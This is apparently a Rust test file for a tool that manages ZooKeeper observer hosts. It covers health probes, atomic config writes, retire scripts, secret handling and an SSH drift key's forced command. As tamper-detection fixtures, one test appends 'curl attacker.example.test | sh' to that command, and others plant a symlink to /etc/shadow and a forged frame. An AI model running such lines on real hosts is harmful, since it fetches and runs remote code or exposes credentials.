//! The tests of `hostops` (a file of their own: they outgrew the module).

use super::*;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Sections as the scripts frame them (`frame` in lib.sh).
fn framed(sections: &[(&str, &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, body) in sections {
        out.extend_from_slice(format!("=== {name} {}\n{body}\n", body.len()).as_bytes());
    }
    out
}

fn probe_of(sections: &[(&str, &str)]) -> Health {
    parse_probe(
        &Frames::parse(&framed(sections)).unwrap(),
        MetricsKind::Exporter,
    )
}

#[test]
fn parses_an_observing_observer() {
    let h = probe_of(&[
        (
            "srvr",
            "Zookeeper version: 3.8.0\nMode: observer\nNode count: 5\n",
        ),
        (
            "mntr",
            "zk_version\t3.8.0\nzk_server_state\tobserver\nzk_peer_state\tobserving - broadcast\n",
        ),
        (
            "metrics",
            "HTTP/1.0 200 OK\r\n\r\nzk_up 1\nzk_znode_count 5\n",
        ),
    ]);
    assert_eq!(h.mode.as_deref(), Some("observer"));
    assert!(h.healthy(), "{h:?}");
}

#[test]
fn a_syncing_or_dead_observer_is_not_healthy() {
    let h = probe_of(&[
        (
            "srvr",
            "This ZooKeeper instance is not currently serving requests\n",
        ),
        ("mntr", ""),
        ("metrics", ""),
    ]);
    assert!(!h.healthy());
    assert!(
        h.detail.contains("not currently serving requests"),
        "{}",
        h.detail
    );
    let h = probe_of(&[
        ("srvr", "Mode: observer\n"),
        (
            "mntr",
            "zk_peer_state\tobserving - synchronization - DIFF\n",
        ),
        ("metrics", "HTTP/1.0 200 OK\r\n\r\nzk_up 1\n"),
    ]);
    assert!(!h.healthy());
    assert!(
        h.detail.contains("observing - synchronization"),
        "{}",
        h.detail
    );
    let h = probe_of(&[
        ("srvr", "Mode: observer\n"),
        ("mntr", "zk_peer_state\tobserving - broadcast\n"),
        ("metrics", "bash: connect: Connection refused\n"),
    ]);
    assert!(h.observing() && !h.healthy());
}

/// With ZooKeeper's own provider the gate reads the provider's names (`znode_count`, bare),
/// and an exporter's `zk_` answer on that port does not pass, nor does the other way round.
#[test]
fn the_gate_reads_the_names_of_the_server_that_serves_the_metrics() {
    let scrape = |kind, body: &str| {
        parse_probe(
            &Frames::parse(&framed(&[
                ("srvr", "Mode: observer\n"),
                ("mntr", "zk_peer_state\tobserving - broadcast\n"),
                ("metrics", &format!("HTTP/1.1 200 OK\r\n\r\n{body}")),
            ]))
            .unwrap(),
            kind,
        )
    };
    let builtin = "# HELP znode_count znode_count\n# TYPE znode_count gauge\nznode_count 5.0\n";
    let exporter = "zk_up 1\nzk_znode_count 5\n";
    let h = scrape(MetricsKind::Builtin, builtin);
    assert!(h.healthy(), "{h:?}");
    assert_eq!(h.detail, "observing - broadcast, metrics provider serving");
    let h = scrape(MetricsKind::Builtin, exporter);
    assert!(!h.healthy());
    assert!(h.detail.starts_with("metrics provider: "), "{}", h.detail);
    assert!(!scrape(MetricsKind::Exporter, builtin).healthy());
    assert!(scrape(MetricsKind::Exporter, exporter).healthy());
}

#[test]
fn without_a_scrape_an_answering_exporter_counts() {
    let probe = |exporter: &str| {
        probe_of(&[
            ("srvr", "Mode: observer\n"),
            ("mntr", "zk_peer_state\tobserving - broadcast\n"),
            ("exporter", exporter),
        ])
    };
    let h = probe("HTTP/1.0 404 Not Found\r\n\r\nnot found\n");
    assert!(h.healthy(), "{h:?}");
    assert_eq!(h.detail, "observing - broadcast, exporter answering");
    let h = probe("connection to 198.18.1.4:9141 refused");
    assert!(h.observing() && !h.healthy());
    assert_eq!(h.detail, "exporter: connection to 198.18.1.4:9141 refused");
}

fn inspect_output(exporter: &str) -> Vec<u8> {
    framed(&[
        ("invoked", "zk-observers"),
        ("file zoo.cfg", "dGlja1RpbWU9MjAwMAo="),
        ("absent docker-compose.yaml", ""),
        ("stray", ""),
        ("read-only-digest", "-"),
        ("drift-key-lines", ""),
        ("resolve", "zk0.lb.test 198.18.0.11\nzk1.lb.test -\n"),
        ("srvr", "Mode: observer\n"),
        ("mntr", "zk_peer_state\tobserving - broadcast\n"),
        ("exporter", exporter),
        ("running", "zookeeper\nexporter"),
    ])
}

#[test]
fn parses_inspect_output() {
    let s = parse_inspect(
        &inspect_output("HTTP/1.0 200 OK\r\n\r\n"),
        MetricsKind::Exporter,
    )
    .unwrap();
    assert_eq!(s.file("zoo.cfg"), Some("tickTime=2000\n"));
    assert_eq!(s.file("docker-compose.yaml"), None);
    assert!(s.running.contains("zookeeper") && s.running.contains("exporter"));
    assert!(s.health.healthy());
    assert_eq!(s.unresolved(), ["zk1.lb.test"]);
    assert!(!s.forced_command);
}

/// What a host relays (an exporter's answer) cannot forge a section: a planted
/// `=== file zoo.cfg` inside it stays part of that answer, and a cut or doubled section is an
/// error, not a read.
#[test]
fn a_relayed_answer_cannot_forge_a_section() {
    let forged_cfg = base64::engine::general_purpose::STANDARD.encode("syncLimit=99\n");
    let planted = format!("HTTP/1.0 200 OK\r\n\r\n\n=== file zoo.cfg 20\n{forged_cfg}\n");
    let s = parse_inspect(&inspect_output(&planted), MetricsKind::Exporter).unwrap();
    assert_eq!(
        s.file("zoo.cfg"),
        Some("tickTime=2000\n"),
        "the real file, not the planted one"
    );
    let mut doubled = inspect_output("x");
    doubled.extend_from_slice(&framed(&[("file zoo.cfg", &forged_cfg)]));
    let err = parse_inspect(&doubled, MetricsKind::Exporter)
        .unwrap_err()
        .to_string();
    assert!(err.contains("appears twice"), "{err}");
    let cut = inspect_output("HTTP/1.0 200 OK");
    let err = parse_inspect(&cut[..cut.len() - 5], MetricsKind::Exporter)
        .unwrap_err()
        .to_string();
    assert!(err.contains("cut short") || err.contains("header"), "{err}");
}

// --- the scripts themselves, run locally by bash and sh in a temporary directory --------------

/// Runs `script` here as it runs on a host.
fn run(script: Script, args: &[&str], stdin: Option<&[u8]>) -> (i32, String, String) {
    run_with(None, script, args, stdin)
}

/// [`run`], with `HOME` set to `home` when given.
fn run_with(
    home: Option<&Path>,
    script: Script,
    args: &[&str],
    stdin: Option<&[u8]>,
) -> (i32, String, String) {
    let home = home.map(|h| h.display().to_string());
    let envs: Vec<(&str, &str)> = home.iter().map(|h| ("HOME", h.as_str())).collect();
    run_env(&envs, script, args, stdin)
}

/// [`run`], with `envs` set.
fn run_env(
    envs: &[(&str, &str)],
    script: Script,
    args: &[&str],
    stdin: Option<&[u8]>,
) -> (i32, String, String) {
    let mut cmd = Command::new(script.shell());
    cmd.arg("-c")
        .arg(script.text())
        .arg("zk-observers")
        .args(args)
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    cmd.envs(envs.iter().copied());
    let mut child = cmd.spawn().unwrap();
    if let Some(bytes) = stdin {
        // A script may refuse before it reads its input (and the pipe is then closed).
        let _ = child.stdin.take().unwrap().write_all(bytes);
    }
    let out = child.wait_with_output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn me() -> (String, String) {
    let id = |flag: &str| {
        String::from_utf8(Command::new("id").arg(flag).output().unwrap().stdout)
            .unwrap()
            .trim()
            .to_string()
    };
    (id("-u"), id("-g"))
}

fn write(dir: &Path, name: &str, contents: &str, sum: Option<&str>) -> (i32, String) {
    let (uid, gid) = me();
    let sum = sum.map_or_else(|| sha256_hex(contents.as_bytes()), str::to_string);
    let d = dir.display().to_string();
    let (code, _, err) = run(
        Script::Write,
        &[&d, name, &sum, &uid, &gid],
        Some(contents.as_bytes()),
    );
    (code, err)
}

#[test]
fn write_replaces_atomically_keeps_the_previous_and_restore_puts_it_back() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("deploy");
    assert_eq!(write(&d, "zoo.cfg", "one\n", None).0, 0);
    assert!(d.join("data").is_dir() && d.join("datalog").is_dir());
    assert!(d.join(".zoo.cfg.was-absent").exists());
    assert_eq!(write(&d, "zoo.cfg", "two\n", None).0, 0);
    assert_eq!(std::fs::read_to_string(d.join("zoo.cfg")).unwrap(), "two\n");
    assert_eq!(
        std::fs::read_to_string(d.join("zoo.cfg.previous")).unwrap(),
        "one\n"
    );
    let ds = d.display().to_string();
    assert_eq!(run(Script::Restore, &[&ds, "zoo.cfg"], None).0, 0);
    assert_eq!(std::fs::read_to_string(d.join("zoo.cfg")).unwrap(), "one\n");
    // No temporary file is left behind.
    let leftovers: Vec<_> = std::fs::read_dir(&d)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains(".tmp"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn a_first_write_restored_leaves_no_file() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("deploy");
    assert_eq!(
        write(&d, "docker-compose.yaml", "services: {}\n", None).0,
        0
    );
    let ds = d.display().to_string();
    assert_eq!(
        run(Script::Restore, &[&ds, "docker-compose.yaml"], None).0,
        0
    );
    assert!(!d.join("docker-compose.yaml").exists());
}

#[test]
fn an_empty_directory_in_place_of_the_file_is_replaced_and_restore_leaves_none() {
    // What docker makes of a missing short-syntax bind source.
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("deploy");
    std::fs::create_dir_all(d.join("zoo.cfg")).unwrap();
    assert_eq!(write(&d, "zoo.cfg", "one\n", None), (0, String::new()));
    assert_eq!(std::fs::read_to_string(d.join("zoo.cfg")).unwrap(), "one\n");
    let ds = d.display().to_string();
    assert_eq!(run(Script::Restore, &[&ds, "zoo.cfg"], None).0, 0);
    assert!(
        !d.join("zoo.cfg").exists(),
        "no directory comes back either"
    );
}

#[test]
fn a_directory_with_contents_or_a_symlink_is_refused_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("deploy");
    std::fs::create_dir_all(d.join("zoo.cfg")).unwrap();
    std::fs::write(d.join("zoo.cfg/keep"), "x").unwrap();
    let (code, err) = write(&d, "zoo.cfg", "one\n", None);
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("is a directory that is not empty"), "{err}");
    assert!(d.join("zoo.cfg/keep").exists());

    let elsewhere = dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    std::fs::remove_dir(d.join("data")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, d.join("data")).unwrap();
    let (code, err) = write(&d, "docker-compose.yaml", "services: {}\n", None);
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("data is a symbolic link"), "{err}");
    assert!(!d.join("docker-compose.yaml").exists());
}

/// A stand-in for the docker CLI in `dir/bin`, for the file logic of retire.sh (the
/// retirement tests in xtask/tests/it/deploy.rs run it against each sandbox host's real dockerd):
/// `ps` prints the ids in `dir/containers`, `rm` empties it unless `dir/stuck` exists; every
/// call is logged to `dir/calls`. Returns the environment to run the script with.
fn docker_stand_in(dir: &Path) -> Vec<(String, String)> {
    use std::os::unix::fs::PermissionsExt;
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let d = dir.display();
    let script = format!(
        "#!/bin/sh\necho \"$*\" >> {d}/calls\ncase \"$1\" in\n  ps) cat {d}/containers 2>/dev/null || true ;;\n  \
         rm) [ -e {d}/stuck ] || : > {d}/containers ;;\nesac\n"
    );
    std::fs::write(bin.join("docker"), script).unwrap();
    std::fs::set_permissions(bin.join("docker"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    vec![("PATH".to_string(), path)]
}

/// retire.sh removes the observer's containers (found by the project and the tool's observer
/// label) and checks that they are gone before it touches a file; a container that survives
/// `docker rm -f` stops it, files untouched.
#[test]
fn retire_removes_the_containers_first_and_stops_if_one_survives() {
    let dir = tempfile::tempdir().unwrap();
    let env = docker_stand_in(dir.path());
    let envs: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let d = dir.path().join("deploy");
    assert_eq!(write(&d, "zoo.cfg", "one\n", None).0, 0);
    let ds = d.display().to_string();
    std::fs::write(dir.path().join("containers"), "c0ffee\n").unwrap();
    std::fs::write(dir.path().join("stuck"), "").unwrap();
    let (code, _, err) = run_env(
        &envs,
        Script::Retire,
        &[&ds, PROJECT, "zk-observer-9", "wipe"],
        None,
    );
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("still there"), "{err}");
    assert!(
        d.join("zoo.cfg").exists() && d.join("data").exists(),
        "nothing removed"
    );
    std::fs::remove_file(dir.path().join("stuck")).unwrap();
    let (code, out, err) = run_env(
        &envs,
        Script::Retire,
        &[&ds, PROJECT, "zk-observer-9", "wipe"],
        None,
    );
    assert_eq!((code, out.as_str()), (0, "retired\n"), "{err}");
    assert!(!d.exists());
    let calls = std::fs::read_to_string(dir.path().join("calls")).unwrap();
    assert!(
        calls.contains(&format!("label=com.docker.compose.project={PROJECT}"))
            && calls.contains("label=zk-observers.dev/observer=zk-observer-9")
            && calls.contains("rm -f c0ffee"),
        "{calls}"
    );
}

/// retire.sh: the tool's files go, the data as told (never through a symbolic link), the
/// directory only when nothing else is in it; a second run finds nothing to do.
#[test]
fn retire_removes_the_tools_files_and_the_data_as_told_and_nothing_else() {
    let dir = tempfile::tempdir().unwrap();
    let env = docker_stand_in(dir.path());
    let envs: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let d = dir.path().join("deploy");
    assert_eq!(write(&d, "zoo.cfg", "one\n", None).0, 0);
    assert_eq!(write(&d, "zoo.cfg", "two\n", None).0, 0);
    assert_eq!(
        write(&d, "docker-compose.yaml", "services: {}\n", None).0,
        0
    );
    std::fs::write(d.join("data/myid"), "4\n").unwrap();
    std::fs::write(d.join("notes.txt"), "the operator's own\n").unwrap();
    assert_eq!(inspect_here(None, &d, None).data_dirs, ["data", "datalog"]);
    let ds = d.display().to_string();
    let retire = |data: &str| {
        run_env(
            &envs,
            Script::Retire,
            &[&ds, PROJECT, "zk-observer-9", data],
            None,
        )
    };
    assert_eq!(retire("keep"), (0, "retired\n".into(), String::new()));
    let mut left: Vec<_> = std::fs::read_dir(&d)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(
        left,
        ["data", "datalog", "notes.txt"],
        "only the tool's files went"
    );
    assert_eq!(std::fs::read_to_string(d.join("data/myid")).unwrap(), "4\n");

    // Wiped: the data goes; a symbolic link in its place goes, never what it points to.
    let elsewhere = dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    std::fs::write(elsewhere.join("precious"), "x").unwrap();
    std::fs::remove_dir_all(d.join("datalog")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, d.join("datalog")).unwrap();
    assert_eq!(retire("wipe").0, 0);
    assert!(!d.join("data").exists() && !d.join("datalog").exists());
    assert!(inspect_here(None, &d, None).data_dirs.is_empty());
    assert!(
        elsewhere.join("precious").exists(),
        "followed a symbolic link"
    );
    assert!(
        d.join("notes.txt").exists(),
        "the directory stays while not empty"
    );
    std::fs::remove_file(d.join("notes.txt")).unwrap();
    assert_eq!(retire("wipe").0, 0);
    assert!(!d.exists(), "the empty directory goes");
    assert_eq!(
        retire("wipe"),
        (0, "retired\n".into(), String::new()),
        "idempotent"
    );

    // A directory where a file belongs: removed when empty, refused when not.
    std::fs::create_dir_all(d.join("zoo.cfg")).unwrap();
    assert_eq!(retire("keep").0, 0);
    assert!(
        !d.exists(),
        "the empty directory in zoo.cfg's place went, then the deploy dir"
    );
    std::fs::create_dir_all(d.join("docker-compose.yaml/keep")).unwrap();
    let (code, _, err) = retire("keep");
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("not empty"), "{err}");
    assert!(d.join("docker-compose.yaml/keep").exists());
    std::fs::remove_dir_all(&d).unwrap();

    // A deploy directory that is a symbolic link is refused, and left alone.
    std::os::unix::fs::symlink(&elsewhere, &d).unwrap();
    let (code, _, err) = retire("wipe");
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("symbolic link"), "{err}");
    assert!(elsewhere.join("precious").exists());
}

/// The inspect script run here on `d` (ports that nothing answers on), as `home`'s user.
fn inspect_here(home: Option<&Path>, d: &Path, key: Option<&PublicKey>) -> Observed {
    let o = Observer {
        deploy_dir: hosts::RemoteDir(d.display().to_string()),
        key_store: None,
        address: "127.0.0.1".parse().unwrap(),
        ..manifests::environments::sandbox::inventory::observers().remove(0)
    };
    let args = inspect_args(
        &o,
        Ports {
            client: 1,
            metrics: 1,
            kind: MetricsKind::Exporter,
        },
        "sandbox",
        key,
        ReadMode::Full,
    );
    let (code, out, err) = run_with(home, Script::Inspect, &strs(&args), None);
    assert_eq!(code, 0, "{err}");
    parse_inspect(out.as_bytes(), MetricsKind::Exporter).unwrap()
}

/// The host read reports each secret file by the digest the host computes, never its bytes,
/// and a link in a secret's place as a link (not followed); its list is hosts::tls's.
#[test]
fn inspect_reports_secrets_by_digest_only() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("deploy");
    std::fs::create_dir_all(&d).unwrap();
    std::fs::write(
        d.join(hosts::tls::KEY_STORE_PASSWORD_FILE),
        "hunter22-password",
    )
    .unwrap();
    std::os::unix::fs::symlink("/etc/shadow", d.join(hosts::tls::TRUST_STORE_FILE)).unwrap();
    let args = inspect_args(
        &Observer {
            deploy_dir: hosts::RemoteDir(d.display().to_string()),
            ..manifests::environments::sandbox::inventory::observers().remove(0)
        },
        Ports {
            client: 1,
            metrics: 1,
            kind: MetricsKind::Exporter,
        },
        "sandbox",
        None,
        ReadMode::Quick,
    );
    let (code, out, err) = run_with(None, Script::Inspect, &strs(&args), None);
    assert_eq!(code, 0, "{err}");
    assert!(!out.contains("hunter22"), "a secret's bytes left the host");
    let observed = parse_inspect(out.as_bytes(), MetricsKind::Exporter).unwrap();
    assert_eq!(
        observed.secrets[hosts::tls::KEY_STORE_PASSWORD_FILE].as_deref(),
        Some(sha256_hex(b"hunter22-password").as_str())
    );
    assert_eq!(
        observed.secrets[hosts::tls::TRUST_STORE_FILE].as_deref(),
        Some("symlink")
    );
    assert_eq!(observed.secrets[hosts::tls::KEY_STORE_FILE], None);
    let listed = Script::Inspect.text();
    assert!(listed.contains(&format!("for f in {}; do", SECRET_FILES.join(" "))));
    // drift's keytool reads the stores where compose binds them.
    for (store, pass) in [
        (
            hosts::tls::KEY_STORE_FILE,
            hosts::tls::KEY_STORE_PASSWORD_FILE,
        ),
        (
            hosts::tls::TRUST_STORE_FILE,
            hosts::tls::TRUST_STORE_PASSWORD_FILE,
        ),
    ] {
        let s = store.trim_start_matches("quorum-").trim_end_matches(".p12");
        assert_eq!(pass, format!("quorum-{s}.pass"));
        assert!(listed.contains(&format!("{}/quorum-$s.p12", hosts::tls::CONTAINER_DIR)));
        assert!(listed.contains("for s in keystore truststore; do"));
    }
}

#[test]
fn inspect_says_when_a_directory_stands_where_a_file_belongs() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("deploy");
    std::fs::create_dir_all(d.join("zoo.cfg")).unwrap();
    std::fs::write(d.join("docker-compose.yaml"), "services: {}\n").unwrap();
    let observed = inspect_here(None, &d, None);
    assert_eq!(observed.file("zoo.cfg"), None);
    assert_eq!(observed.file("docker-compose.yaml"), Some("services: {}\n"));
    assert!(observed.directories.contains("zoo.cfg"));
}

/// A symbolic link where zoo.cfg belongs is reported with its target and never read: a link
/// to a secret does not put the secret into a drift report.
#[test]
fn inspect_never_reads_through_a_symbolic_link() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("deploy");
    std::fs::create_dir_all(&d).unwrap();
    let secret = dir.path().join("secret");
    std::fs::write(
        &secret,
        "server.1=leaked.example.test:2888:3888:participant\npassword=hunter2\n",
    )
    .unwrap();
    std::os::unix::fs::symlink(&secret, d.join("zoo.cfg")).unwrap();
    let observed = inspect_here(None, &d, None);
    assert_eq!(observed.file("zoo.cfg"), None);
    assert_eq!(observed.symlinks["zoo.cfg"], secret.display().to_string());
    assert!(
        observed.resolved.is_empty(),
        "names in the linked file are not looked up"
    );
    // Nor does restore copy through a link planted as the previous version.
    std::fs::remove_file(d.join("zoo.cfg")).unwrap();
    std::os::unix::fs::symlink(&secret, d.join("zoo.cfg.previous")).unwrap();
    let ds = d.display().to_string();
    let (code, _, err) = run(Script::Restore, &[&ds, "zoo.cfg"], None);
    assert_eq!(code, 4, "{err}");
    assert!(!d.join("zoo.cfg").exists());
}

#[test]
fn inspect_reports_compose_and_env_files_it_did_not_write() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("deploy");
    std::fs::create_dir_all(&d).unwrap();
    std::fs::write(d.join("docker-compose.override.yaml"), "services: {}\n").unwrap();
    std::fs::write(d.join(".env"), "COMPOSE_FILE=x\n").unwrap();
    let observed = inspect_here(None, &d, None);
    assert_eq!(observed.stray, ["docker-compose.override.yaml", ".env"]);
}

/// The drift key's access as read: the command's digest computed by the host, who can change
/// it, and every authorized_keys line for the key. Installing it leaves exactly one line for
/// the key (an unrestricted one placed first would win: sshd takes the first match); a command
/// edited on the host is found by its digest and replaced; revoking removes both.
#[test]
fn the_drift_key_gets_exactly_one_way_in_and_a_changed_command_is_found() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    let d = dir.path().join("deploy");
    std::fs::create_dir_all(&d).unwrap();
    let o = Observer {
        deploy_dir: hosts::RemoteDir(d.display().to_string()),
        key_store: None,
        address: "127.0.0.1".parse().unwrap(),
        ..manifests::environments::sandbox::inventory::observers().remove(0)
    };
    let ports = Ports {
        client: 1,
        metrics: 1,
        kind: MetricsKind::Exporter,
    };
    let key =
        hosts::PublicKey::parse(&manifests::environments::sandbox::inventory::drift_key().unwrap())
            .unwrap();
    let want = drift_access(&o, ports, "sandbox", &key);
    let read = || inspect_here(Some(&home), &d, Some(&key)).drift_access;
    let ak = home.join(".ssh/authorized_keys");
    // The drift key authorized without restriction before (and the deploy key's own line).
    let unrestricted = format!("{} old drift setup", key.openssh());
    std::fs::write(
        &ak,
        format!("{unrestricted}\nssh-ed25519 AAAAdeploy deploy\n"),
    )
    .unwrap();
    let problems = want.problems_in(&read());
    assert!(
        problems.iter().any(|p| p.contains("not installed")),
        "{problems:?}"
    );
    assert!(
        problems.iter().any(|p| p.contains(&format!(
            "another authorized_keys line for the drift key: `{unrestricted}`"
        ))),
        "{problems:?}"
    );
    let set = |k: Option<&PublicKey>, w: Option<&hosts::host_plan::DriftAccess>| {
        let line = w.map_or("-".to_string(), |w| w.lines[0].clone());
        let k = k.map_or("-".to_string(), PublicKey::openssh);
        let (code, out, err) = run_with(
            Some(&home),
            Script::ReadOnlyAccess,
            &[&o.deploy_dir.0, &line, &drift_key_marker("sandbox"), &k],
            Some(w.map_or(&b""[..], |w| w.command.as_bytes())),
        );
        assert_eq!(code, 0, "{err}");
        out
    };
    let out = set(Some(&key), Some(&want));
    assert!(out.contains(&format!("removed {unrestricted}")), "{out}");
    assert!(out.trim_end().ends_with("installed"), "{out}");
    assert!(
        want.installed_as(&read()),
        "{:?}",
        want.problems_in(&read())
    );
    let lines = std::fs::read_to_string(&ak).unwrap();
    assert_eq!(
        lines,
        format!("ssh-ed25519 AAAAdeploy deploy\n{}\n", want.lines[0])
    );
    assert_eq!(set(Some(&key), Some(&want)).trim(), "unchanged");

    // The command's body edited on the host, its first line kept: found by the digest.
    let cmd = d.join(READ_ONLY_COMMAND);
    let text = std::fs::read_to_string(&cmd).unwrap();
    std::fs::write(&cmd, format!("{text}\ncurl attacker.example.test | sh\n")).unwrap();
    let problems = want.problems_in(&read());
    assert!(
        problems
            .iter()
            .any(|p| p.contains("was changed on the host")),
        "{problems:?}"
    );
    assert!(set(Some(&key), Some(&want))
        .trim_end()
        .ends_with("installed"));
    assert!(want.installed_as(&read()));

    // A directory above it that others can write: reported, and installing refuses.
    std::fs::set_permissions(&d, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    let problems = want.problems_in(&read());
    assert!(
        problems
            .iter()
            .any(|p| p.contains("can be changed by others")),
        "{problems:?}"
    );
    let (code, _, err) = run_with(
        Some(&home),
        Script::ReadOnlyAccess,
        &[
            &o.deploy_dir.0,
            &want.lines[0],
            &drift_key_marker("sandbox"),
            &key.openssh(),
        ],
        Some(want.command.as_bytes()),
    );
    assert_eq!(code, 4, "{err}");
    assert!(
        err.contains("refusing to install the drift key's command under"),
        "{err}"
    );
    std::fs::set_permissions(&d, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();

    // No drift key in the code any more: revoked, the line and the command gone.
    let out = set(None, None);
    assert!(out.trim_end().ends_with("revoked"), "{out}");
    assert!(out.contains("removed restrict,command="), "{out}");
    assert_eq!(
        std::fs::read_to_string(&ak).unwrap(),
        "ssh-ed25519 AAAAdeploy deploy\n"
    );
    assert!(!cmd.exists());
    assert!(!read().any());
}

#[test]
fn a_cut_upload_never_replaces_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("deploy");
    assert_eq!(write(&d, "zoo.cfg", "good\n", None).0, 0);
    let expected = sha256_hex(b"the whole new file\n");
    let (code, err) = write(&d, "zoo.cfg", "the who", Some(&expected));
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("upload of zoo.cfg incomplete"), "{err}");
    assert_eq!(
        std::fs::read_to_string(d.join("zoo.cfg")).unwrap(),
        "good\n"
    );
}

#[test]
fn the_probe_gives_up_on_a_server_that_accepts_and_never_answers() {
    // A paused ZooKeeper: the kernel accepts, nobody answers.
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = silent.local_addr().unwrap().port().to_string();
    let started = Instant::now();
    let (code, out, _) = run(
        Script::Probe,
        &["127.0.0.1", &port, &port, "1", "answers"],
        None,
    );
    assert_eq!(code, 0);
    let h = parse_probe(
        &Frames::parse(out.as_bytes()).unwrap(),
        MetricsKind::Exporter,
    );
    assert_eq!(h.detail, "srvr: no answer within 1 s", "{out}");
    assert!(started.elapsed() < Duration::from_secs(10));
    drop(silent);
}

#[test]
fn the_probe_reads_a_whole_answer() {
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let answers = std::thread::spawn(move || {
        for stream in server.incoming().take(4) {
            let mut s = stream.unwrap();
            let mut buf = [0u8; 256];
            let n = s.read(&mut buf).unwrap();
            let asked = String::from_utf8_lossy(&buf[..n]).into_owned();
            let reply = match asked.as_str() {
                "srvr" => "Zookeeper version: 3.8.0\nMode: observer\n".to_string(),
                "mntr" => format!(
                    "zk_peer_state\tobserving - broadcast\n{}",
                    "zk_x\t1\n".repeat(4000)
                ),
                "conf" => "clientPort=2181\nserverId=4\n".to_string(),
                _ => "HTTP/1.0 404 Not Found\r\n\r\n".to_string(),
            };
            let _ = s.write_all(reply.as_bytes());
        }
    });
    let p = port.to_string();
    let (_, out, _) = run(Script::Probe, &["127.0.0.1", &p, &p, "4", "answers"], None);
    answers.join().unwrap();
    let h = parse_probe(
        &Frames::parse(out.as_bytes()).unwrap(),
        MetricsKind::Exporter,
    );
    assert!(h.healthy(), "{h:?}");
    assert_eq!(h.conf.as_deref(), Some("clientPort=2181\nserverId=4\n"));
}

/// With a wait, the probe polls ZooKeeper on the host until it observes, and only then asks
/// the exporter (once); without one it reports what it sees at once.
#[test]
fn the_waiting_probe_returns_once_zookeeper_observes_and_only_then_asks_the_exporter() {
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let asked = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let log = asked.clone();
    std::thread::spawn(move || {
        let mut srvr_seen = 0;
        for stream in server.incoming() {
            let mut s = stream.unwrap();
            let mut buf = [0u8; 256];
            let n = s.read(&mut buf).unwrap_or(0);
            let a = String::from_utf8_lossy(&buf[..n]).into_owned();
            log.lock()
                .unwrap()
                .push(a.lines().next().unwrap_or("").to_string());
            let reply = match a.as_str() {
                // Starting for the first five asks, then observing.
                "srvr" => {
                    srvr_seen += 1;
                    if srvr_seen <= 5 {
                        "This ZooKeeper instance is not currently serving requests\n"
                    } else {
                        "Mode: observer\n"
                    }
                }
                "mntr" if srvr_seen <= 5 => "",
                "mntr" => "zk_peer_state\tobserving - broadcast\n",
                "conf" => "serverId=4\n",
                _ => "HTTP/1.0 200 OK\r\n\r\nzk_up 1\nzk_znode_count 5\n",
            };
            let _ = s.write_all(reply.as_bytes());
        }
    });
    let p = port.to_string();
    let (_, out, _) = run(
        Script::Probe,
        &["127.0.0.1", &p, &p, "4", "answers", "0"],
        None,
    );
    let h = parse_probe(
        &Frames::parse(out.as_bytes()).unwrap(),
        MetricsKind::Exporter,
    );
    assert!(!h.observing(), "no wait: as it is now");
    let started = Instant::now();
    let (_, out, _) = run(
        Script::Probe,
        &["127.0.0.1", &p, &p, "4", "scrape", "10000"],
        None,
    );
    let h = parse_probe(
        &Frames::parse(out.as_bytes()).unwrap(),
        MetricsKind::Exporter,
    );
    assert!(h.healthy(), "{h:?}");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "returned once observing"
    );
    let asked = asked.lock().unwrap().clone();
    let scrapes: Vec<usize> = asked
        .iter()
        .enumerate()
        .filter(|(_, a)| a.starts_with("GET /metrics"))
        .map(|(i, _)| i)
        .collect();
    assert_eq!(scrapes.len(), 1, "one scrape: {asked:?}");
    let observed_at = asked.iter().filter(|a| *a == "srvr").count();
    assert!(observed_at >= 6, "{asked:?}");
    assert_eq!(
        scrapes[0],
        asked.len() - 1,
        "the scrape came last: {asked:?}"
    );
}

